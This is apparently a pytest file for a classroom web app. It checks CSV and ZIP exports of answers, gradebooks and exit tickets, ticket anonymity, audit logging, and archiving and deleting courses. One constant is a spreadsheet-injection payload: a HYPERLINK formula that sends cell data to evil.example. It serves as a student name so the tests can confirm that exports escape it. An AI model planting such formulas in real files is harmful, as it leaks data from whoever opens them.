"""Results taken home: what a spreadsheet, Canvas, Moodle and a program find in the files, and who may have them."""

from __future__ import annotations

import csv
import io
import json
import re
import tomllib
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from datetime import date
from typing import Any

import pytest
import sqlalchemy as sa
from fastapi import FastAPI

from app.activities.work import ClassDraft
from app.classes.course_files import CourseFiles
from app.grading.grade import grade
from app.store import ClassSheetKey, Graded, Plan, Policies, Student, Teacher, VariantSizes
from app.store.tables import audit_log, metadata
from tests.helpers.anonymous_tickets import close_and_mix
from tests.helpers.clock import Clock
from tests.helpers.school import School

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"look")'
LLAMA = VariantSizes("llama-7b", 100)


def read(text: str) -> list[dict[str, str]]:
    """A CSV file as a program reads it."""
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


# A course


class Taught:
    """A course with two students, an activity with two sheets, and an anonymous and a named ticket."""

    def __init__(self, app: FastAPI, number: int = 1) -> None:
        self.school = School(app)
        self.ada = self.school.teacher(f"ada@{number}.example")
        self.course = self.school.course(f"Transformers {number}", self.ada)
        plan = Plan("Week 3", date(2026, 3, 2), Policies())
        self.activity = self.school.activity(self.course, plan=plan)
        named = replace(plan, title="Week 4", policies=Policies(ticket_anonymous=False))
        self.named = self.school.activity(self.course, sheets=(), plan=named)
        self.kim, self.lou = (self.school.student(self.course, name)[0] for name in ("Kim Secretname", EVIL))
        self.hand_in(self.kim, 0, {"queries.rows": "100"}, "first")
        self.hand_in(self.kim, 0, {"queries.rows": "100", "queries.columns": "4096/32"}, "second")
        self.hand_in(self.lou, 1, {"queries.rows": EVIL, "keys.rows": "-5"}, "third")
        for where, who in ((self.activity, self.kim), (self.activity, self.lou), (self.named, self.kim)):
            self.work.arrive(where.id, who.id)
            answers = {"muddiest": f"{who.id} wonders about {where.plan.title}"}
            anonymous = where.policies.ticket_anonymous
            self.school.store.exit_tickets.hand_in(
                where.id, who.id, f"form {where.id} {who.id}", answers, anonymous=anonymous
            )

    @property
    def work(self) -> Any:
        return self.school.store.classwork

    def hand_in(self, who: Student, item: int, answers: dict[str, str], client: str) -> None:
        sheet = str(self.activity.content.items[item].worksheet["key"])
        variant = self.school.library.variant(sheet)
        report = grade(variant, answers)
        marks = {str(blank): mark.kind for blank, mark in report.marks.items()}
        key = ClassSheetKey(who.id, self.activity.id, 1, item + 1, self.activity.content.items[item].sheet_key)
        sizes = VariantSizes(variant.model.key, variant.tokens)
        graded = Graded(marks, (), report.score, report.out_of)
        self.work.record(key, client, ClassDraft(answers, 1, sizes), graded, handed_in=True)

    def get(self, name: str) -> Any:
        with self.school.browser(teacher=self.ada) as browser:
            got = browser.get(f"/courses/{self.course.id}/exports/{name}")
        assert got.status_code == 200, got.text
        return got


@pytest.fixture
def taught(new_app: FastAPI) -> Taught:
    return Taught(new_app)


def test_an_export_holds_while_somebody_joins(app_on_each_database: FastAPI) -> None:
    """Whoever joins and hands in after the roster was read is in the next export; this one is whole without them."""
    taught = Taught(app_on_each_database)
    store = taught.school.store
    activities = store.activities.of_course(taught.course)[::-1]
    points = {activity.id: [14] * len(activity.content.items) for activity in activities}
    files = CourseFiles(store, taught.course, activities, points)
    assert len(files.students) == 2
    late, _ = taught.school.student(taught.course, "Max Late")
    taught.hand_in(late, 0, {"queries.rows": "100"}, "late")
    taught.work.arrive(taught.named.id, late.id)
    taught.school.store.exit_tickets.hand_in(
        taught.named.id, late.id, "late form", {"muddiest": "late"}, anonymous=False
    )
    tables = [list(rows()) for rows in (files.answer_rows, files.attempt_rows, files.ticket_rows, files.student_rows)]
    assert [len(rows) for rows in tables] == [43, 4, 2, 3]  # two anonymous tickets wait for others
    whole = io.BytesIO()
    files.write_zip(whole)
    texts = [zipfile.ZipFile(whole).read(name).decode() for name in zipfile.ZipFile(whole).namelist()]
    assert not any("Max Late" in text or "late form" in text for text in texts)
    again = CourseFiles(store, taught.course, activities, points)
    assert len(list(again.attempt_rows())) == 5


def test_every_box_of_every_try_has_a_row(app_on_each_database: FastAPI) -> None:
    """Three attempts of fourteen boxes are 42 rows; what was typed and its mark stand in them, and which attempt
    counts.
    """
    taught = Taught(app_on_each_database)
    got = taught.get("answers.csv")
    assert got.headers["content-disposition"] == 'attachment; filename="transformers-1-answers.csv"'
    assert got.headers["cache-control"] == "no-store"
    rows = read(got.text)
    assert len(rows) == 42
    [first, second] = [row for row in rows if row["student"].startswith("Kim") and row["box"] == "queries.rows"]
    assert (first["attempt"], first["counts"], second["attempt"], second["counts"]) == ("1", "no", "2", "yes")
    assert (second["answer"], second["mark"], second["activity"], second["date"]) == (
        "100",
        "right",
        "Week 3",
        "2026-03-02",
    )
    assert (second["model"], second["tokens"], second["handed in"]) == ("llama-7b", "100", "yes")
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d", second["time"])
    typed = {row["box"]: (row["answer"], row["mark"]) for row in rows if row["student"] == f"'{EVIL}"}
    assert typed["queries.rows"] == (f"'{EVIL}", "unreadable")
    assert typed["keys.rows"][0] == "-5"
    assert typed["values.rows"] == ("", "empty")


def test_the_gradebooks_count_the_last_attempt_on_each_sheet(taught: Taught) -> None:
    """Two boxes right of the 28 of both sheets; the activity without a sheet is no column."""
    rows = read(taught.get("gradebook-canvas.csv").text)
    assert list(rows[0])[5:] == ["Week 3"]
    assert [(row["Student"].strip(), row["Week 3"]) for row in rows] == [
        ("Points Possible", "28"), (f"'{EVIL}", "0"), ("Kim Secretname", "2"),
    ]  # fmt: skip
    assert taught.get("gradebook-moodle.csv").text == "ID number,Full name,Week 3 (%)\r\n"  # nobody has a number


def test_a_sheet_that_was_replaced_keeps_its_points(taught: Taught) -> None:
    """With another worksheet in the place of the first, what was handed in there still counts, by its share."""
    store = taught.school.store
    items = taught.activity.content.items
    other = replace(items[0], worksheet={**items[0].worksheet, "tokens": 50})
    store.activities.revise(taught.activity, replace(taught.activity.content, items=(other, items[1])))
    [kim] = [row for row in read(taught.get("gradebook-canvas.csv").text) if row["Student"].startswith("Kim")]
    assert kim["Week 3"] == "2"
    assert len(read(taught.get("attempts.csv").text)) == 3


def test_anonymous_tickets_say_nothing_of_who_wrote_them(taught: Taught) -> None:
    """In no file is a student, a number, an id or a time beside them; the named one has its name."""
    close_and_mix(taught.school.store, taught.activity)
    rows = read(taught.get("exit-tickets.csv").text)
    assert {(row["activity"], row["student"]) for row in rows} == {("Week 3", ""), ("Week 4", "Kim Secretname")}
    assert rows[0]["question"].endswith("?")
    archive = zipfile.ZipFile(io.BytesIO(taught.get("course.zip").content))
    kept = json.loads(archive.read(f"activities/{taught.activity.id}.json"))["exit_tickets"]
    assert len(kept) == 2
    for answer in kept:
        assert set(answer) == {"question", "text", "student_id", "day", "starred", "follow_up", "hidden"}
        assert answer["student_id"] is None
    named = json.loads(archive.read(f"activities/{taught.named.id}.json"))["exit_tickets"]
    assert [answer["student_id"] for answer in named] == [taught.kim.id]


def test_an_export_says_how_many_tickets_are_held_back(app_on_each_database: FastAPI) -> None:
    """Of an open activity all, after closing none, and what came after reopening, of which no file has the text."""
    taught = Taught(app_on_each_database)
    store, activity = taught.school.store, taught.activity

    def held_back() -> int:
        archive = zipfile.ZipFile(io.BytesIO(taught.get("course.zip").content))
        assert not any(b"Why Zoe" in archive.read(name) for name in archive.namelist())
        return int(json.loads(archive.read(f"activities/{activity.id}.json"))["exit_tickets_held_back"])

    assert held_back() == 2
    close_and_mix(store, activity)
    assert held_back() == 0
    store.activities.change(activity, activity.plan)
    zoe, _ = taught.school.student(taught.course, "Zoe")
    taught.work.arrive(activity.id, zoe.id)
    store.exit_tickets.hand_in(activity.id, zoe.id, "z", {"muddiest": "Why Zoe?"}, anonymous=True)
    close_and_mix(store, activity)
    assert held_back() == 1
    assert len(read(taught.get("exit-tickets.csv").text)) == 3
    store.courses.delete(taught.course)
    assert store.exit_tickets.count_held(taught.course) == 0


def test_anonymous_tickets_come_in_a_new_order_each_time(taught: Taught) -> None:
    """Those of twelve students that are shown, four times: not the order of the table four times."""
    for number in range(10):
        student, _ = taught.school.student(taught.course, f"S{number}")
        taught.work.arrive(taught.activity.id, student.id)
        taught.school.store.exit_tickets.hand_in(
            taught.activity.id, student.id, f"f{number}", {"again": str(number)}, anonymous=True
        )
    orders = {tuple(row["answer"] for row in read(taught.get("exit-tickets.csv").text)) for _ in range(4)}
    assert len(orders) > 1
    assert len({frozenset(order) for order in orders}) == 1


def test_the_zip_holds_the_course_and_nothing_that_lets_people_in(taught: Taught) -> None:
    """Each file the README names is there; every attempt and revision is in the JSON; no code and no hash is."""
    ticket = {"title": "Bye", "instruction": "Pick.", "questions": [{"key": "q", "text": "Why?"}]}
    material = taught.school.store.materials.add("ticket", taught.course, taught.ada, ticket)
    archive = zipfile.ZipFile(io.BytesIO(taught.get("course.zip").content))
    readme = archive.read("README.txt").decode()
    for name in set(archive.namelist()) - {"README.txt"}:
        assert re.sub(r"/\d+\.", "/ID.", name) in readme
    assert tomllib.loads(archive.read(f"exit-tickets/{material.id}.toml").decode()) == ticket
    course = json.loads(archive.read("course.json"))
    assert [s["name"] for s in course["students"]] == [EVIL, "Kim Secretname"]
    kept = json.loads(archive.read(f"activities/{taught.activity.id}.json"))
    assert [attempt["answers"] for attempt in kept["attempts"]][1] == {
        "queries.rows": "100",
        "queries.columns": "4096/32",
    }
    assert kept["revisions"][0]["items"][0]["key"] == "llama-7b"
    assert {draft["student_id"] for draft in kept["drafts"]} == {taught.kim.id, taught.lou.id}
    everything = " ".join(archive.read(name).decode() for name in archive.namelist())
    for secret in (taught.activity.join_code, "no hash of any password", "resume_hash"):
        assert secret not in everything


def test_a_file_that_there_is_not_is_404(taught: Taught) -> None:
    """Also for the instructor."""
    with taught.school.browser(teacher=taught.ada) as browser:
        assert browser.get(f"/courses/{taught.course.id}/exports/passwords.csv").status_code == 404


def test_exports_and_the_rest_are_in_the_log_by_number(taught: Taught) -> None:
    """The log's rows hold no name and no title; its page says both to the course's own instructor."""
    taught.get("answers.csv")
    with taught.school.browser(teacher=taught.ada) as browser:
        browser.post(f"/courses/{taught.course.id}/students/{taught.lou.id}/free")
        page = browser.get(f"/courses/{taught.course.id}/exports").text
    assert "exported answers.csv" in page
    assert "student released" in page
    assert "Ada" in page
    with taught.school.store.engine.connect() as connection:
        rows = connection.execute(sa.select(audit_log)).all()
    exported = ("teacher", taught.ada.id, "exported", "course", taught.course.id, "answers.csv")
    assert exported in [(r.actor_kind, r.actor_id, r.action, r.object_kind, r.object_id, r.detail) for r in rows]
    assert not any(word in str(rows) for word in ("Ada", "Kim", "Transformers", "evil"))


# Put away and deleted


def roles(taught: Taught, role: str) -> Teacher:
    return taught.school.teacher(f"{role}@example.org", taught.course, "assistant" if role == "bo" else "instructor")


def test_an_archived_course_is_read_and_not_changed(taught: Taught, clock: Clock) -> None:
    """Out of the list, no way in, nothing taken in, nothing changed, all to be seen and taken home; and back again.

    Extra time is over too.
    """
    course, activity = f"/courses/{taught.course.id}", f"/activities/{taught.activity.id}"
    max_, visitor = taught.school.student(taught.course, "Max")
    sheet = f"/class/{taught.activity.id}/1"
    with taught.school.browser(teacher=taught.ada) as ada, taught.school.browser(visitor=visitor) as browser:
        assert browser.post(f"{sheet}/save", data={"queries.rows": "1"}).status_code == 200
        taught.school.store.activities.set_extra_time(taught.activity, max_.id, 60)
        assert ada.post(f"{course}/archive").status_code == 303
        listed = ada.get("/courses").text
        assert "Archived" in listed
        assert listed.index(taught.course.title) > listed.index("Archived")
        changes = [
            course, f"{course}/students", f"{course}/staff", f"{course}/students/{max_.id}/remove",
            f"{course}/activities", activity, f"{activity}/open", f"{activity}/close",
        ]  # fmt: skip
        assert {ada.post(path, data={"title": "Another"}).status_code for path in changes} == {409}
        assert {ada.get(path).status_code for path in (course, activity, f"{course}/exports")} == {200}
        assert "Edit" not in ada.get(activity).text
        assert ada.get(f"{course}/exports/attempts.csv").status_code == 200
        clock.pass_minutes(1)  # what was on its way has come
        assert browser.post(f"{sheet}/save", data={"queries.rows": "2"}).status_code == 409
        assert browser.post(f"{sheet}/hand-in", data={"queries.rows": "2"}).status_code == 409
        assert browser.get(sheet).status_code == 200
        assert browser.get(f"/join/{taught.activity.join_code}").status_code == 404
        assert ada.post(f"{course}/bring-back").status_code == 303
        taught.school.store.activities.set_extra_time(taught.school.reload(taught.activity), max_.id, 0)
        assert browser.post(f"{sheet}/save", data={"queries.rows": "2"}).status_code == 409
        assert ada.post(f"{activity}/open").status_code == 303
        assert browser.post(f"{sheet}/save", data={"queries.rows": "2"}).status_code == 200
        assert browser.get(f"/join/{taught.activity.join_code}").status_code == 200
        assert "Archived" not in ada.get("/courses").text


def whole(store: Any) -> dict[str, list[Any]]:
    """Every row of every table."""
    with store.engine.connect() as connection:
        return {table.name: list(connection.execute(sa.select(table)).all()) for table in metadata.sorted_tables}


def test_a_deleted_course_leaves_nothing_behind(app_on_each_database: FastAPI) -> None:
    """With its title typed, every table is as it was without the course, but for accounts, browsers and the log."""
    other = Taught(app_on_each_database, 2)
    store = other.school.store
    before = whole(store)
    gone = Taught(app_on_each_database)
    store.people.add_link("invite", "bo@example.org", gone.course.id, "assistant")
    with gone.school.browser(teacher=gone.ada) as ada:
        path = f"/courses/{gone.course.id}/delete"
        refused = ada.post(path, data={"title": "transformers 1"})
        assert refused.status_code == 422
        assert "transformers 1" in refused.text
        assert store.courses.find(gone.course.id)
        assert ada.post(path, data={"title": "Transformers 1"}).status_code == 303
        assert ada.get(f"/courses/{gone.course.id}").status_code == 404
    after = whole(store)
    kept = {"teachers", "sessions", "visitors", "audit_log", "account_links", "snapshots"}
    assert {name for name in after if after[name] != before[name]} <= kept
    assert not any(row.course_id == gone.course.id for row in after["account_links"])
    entry = next(row for row in after["audit_log"] if row.action == "course deleted")
    assert (entry.object_kind, entry.object_id) == ("course", gone.course.id)
    everything = str({name: rows for name, rows in after.items() if name != "audit_log"})
    assert not any(word in everything for word in ("Transformers 1", f"{gone.kim.id} wonders", gone.activity.join_code))


def test_an_assistant_neither_exports_nor_deletes(taught: Taught) -> None:
    """They see the course; what leaves it, and its end, are the instructors'."""
    bo = roles(taught, "bo")
    with taught.school.browser(teacher=bo) as browser:
        assert "Export and archive" not in browser.get(f"/courses/{taught.course.id}").text
        assert browser.get(f"/courses/{taught.course.id}/exports/course.zip").status_code == 403
        assert browser.post(f"/courses/{taught.course.id}/delete", data={"title": "Transformers 1"}).status_code == 403


def test_a_course_is_copied_without_its_students(app_on_each_database: FastAPI) -> None:
    """The activities come as drafts in their order, with their rules and without dates; the original stays."""
    taught = Taught(app_on_each_database)
    with taught.school.browser(teacher=taught.ada) as browser:
        assert browser.post(f"/courses/{taught.course.id}/copy", data={"title": " "}).status_code == 422
        made = browser.post(f"/courses/{taught.course.id}/copy", data={"title": "Transformers 2027"})
        assert made.status_code == 303
        assert browser.get(made.headers["location"]).status_code == 200
    store = taught.school.store
    copy = store.courses.taught_by(taught.ada)[0].course
    assert (copy.title, copy.time_zone, store.roster.students(copy)) == ("Transformers 2027", "Europe/Berlin", ())
    copies, originals = store.activities.of_course(copy), store.activities.of_course(taught.course)
    assert [(each.plan.title, each.content, each.policies) for each in copies] == [
        (each.plan.title, each.content, each.policies) for each in originals
    ]
    assert {(each.state, each.plan.day) for each in copies} == {("draft", None)}


@pytest.mark.parametrize("file_name", ["answers.csv", "course.zip"])
def test_an_export_that_fails_half_way_is_an_error(
    new_app: FastAPI, monkeypatch: pytest.MonkeyPatch, file_name: str
) -> None:
    """Not a file that ends somewhere, with status 200."""
    taught = Taught(new_app)
    whole = CourseFiles.answer_rows

    def fail(files: CourseFiles) -> Iterator[Any]:
        yield from whole(files)
        raise RuntimeError

    monkeypatch.setattr(CourseFiles, "answer_rows", fail)
    browser = taught.school.browser(teacher=taught.ada)
    assert browser.get(f"/courses/{taught.course.id}/exports/{file_name}").status_code == 500
